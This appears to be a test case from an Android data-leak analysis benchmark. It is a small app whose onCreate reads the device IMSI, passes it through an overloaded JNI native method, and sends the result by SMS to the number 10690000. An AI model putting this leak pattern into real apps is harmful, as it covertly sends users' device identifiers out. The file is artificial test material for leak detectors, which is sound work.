// about       Two native overloads; the one for a String, told by its signature in the symbol, gives the value back.
// leak        DEV_IMSI sms
// native      OverloadMangled_leak.c
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    // The static type picks the overload.
    String value = phone.getSubscriberId();
    String text = Codec.code(value);
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }
}

class Codec {
  static {
    System.loadLibrary("OverloadMangled_leak");
  }

  static native String code(String value);

  static native String code(Object value);
}
